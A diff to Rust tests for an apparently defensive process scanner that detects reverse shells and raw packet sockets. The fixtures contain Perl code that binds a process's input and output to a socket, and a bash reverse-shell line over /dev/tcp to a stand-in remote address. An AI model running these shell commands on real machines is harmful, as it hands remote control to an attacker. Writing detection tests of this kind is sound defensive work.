@@ -28,10 +28,10 @@ fn perl(code: &str) -> String {
 /// The other end of a shell's connection: its first command is to say that it obeys.
 const ORDERS: &str = r"syswrite(S, 'echo $$ >/tmp/ready' . qq(\n)); sleep 600 while 1;";
 const PEER: &str = r"use Socket; socket(L, PF_INET, SOCK_STREAM, 0); setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1);
-    bind(L, sockaddr_in(4444, INADDR_LOOPBACK)) or die; listen(L, 1);
+    bind(L, sockaddr_in(4444, inet_aton('192.0.2.1'))) or die; listen(L, 1);
     open(F, '>', '/tmp/ready'); print F $$; close(F);";
 const CONNECT: &str = r"use Socket; socket(S, PF_INET, SOCK_STREAM, 0);
-    until (connect(S, sockaddr_in(4444, INADDR_LOOPBACK))) { select(undef, undef, undef, 0.02); }";
+    until (connect(S, sockaddr_in(4444, inet_aton('192.0.2.1')))) { select(undef, undef, undef, 0.02); }";
 /// Runs the rest of the command line with the socket as its input and output.
 const BECOME: &str = r"open(STDIN, '<&S'); open(STDOUT, '>&S'); exec(@ARGV); die;";
 /// Runs it on two pipes and hands on what comes from the socket.
@@ -91,7 +91,7 @@ fn a_reverse_shell() {
             _ => shell(),
         };
         assert_eq!(before_and_after(&looks), (vec![expected], vec![]), "{argv}");
-        assert_eq!(looks[0].findings[0]["remote"], "127.0.0.1:4444");
+        assert_eq!(looks[0].findings[0]["remote"], "192.0.2.1:4444");
         assert_eq!(looks[0].status, 2);
         assert_ne!(looks[1].status, 2);
     }
@@ -102,7 +102,7 @@ fn a_reverse_shell_that_the_shell_itself_made() {
     let room = with_shells().owns("/bin/bash");
     let looks = room.run(
         "plant perl /srv/listen.pl; peer=$pid
-        plant bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1; :'; look; gone $pid $peer; sleep 0.2; look",
+        plant bash -c 'bash -i >&/dev/tcp/192.0.2.1/4444 0>&1; :'; look; gone $pid $peer; sleep 0.2; look",
     );
     let bash = std::fs::canonicalize("/bin/bash").unwrap();
     let expected = vec![format!("socket-shell infected {}", bash.display())];
@@ -203,7 +203,7 @@ fn a_packet_socket_with_a_filter() {
 }
 
 #[test]
-fn a_packet_socket_that_no_visible_process_holds() {
+fn a_packet_socket_whose_holder_may_be_outside() {
     let room = Room::new().file("/srv/packets.pl", &packet_socket()).owns("/usr/bin/unshare");
     // Processes that are born in a pid namespace of their own do not see who was there before.
     let looks = room.run(
@@ -213,8 +213,10 @@ fn a_packet_socket_that_no_visible_process_holds() {
         unshare --pid --mount --propagation unchanged --fork sh -c \"$enter\" </dev/null >/out/0.json 2>/out/0.err || status=$?
         echo $status >/out/0.status",
     );
-    assert_eq!(found(&looks[0]), ["raw-socket suspicious "]);
-    assert!(detail(&looks[0], "raw-socket").ends_with("no visible process holds it"));
+    // The holder may be outside of such a namespace, so nobody is accused; tests/live.rs has one without a holder.
+    assert_eq!(found(&looks[0]), [""; 0]);
+    let (looked, why) = looks[0].looked("raw-socket");
+    assert!(looked == "partly" && why.contains("pid namespace"), "{looked}: {why}");
 }
 
 #[test]
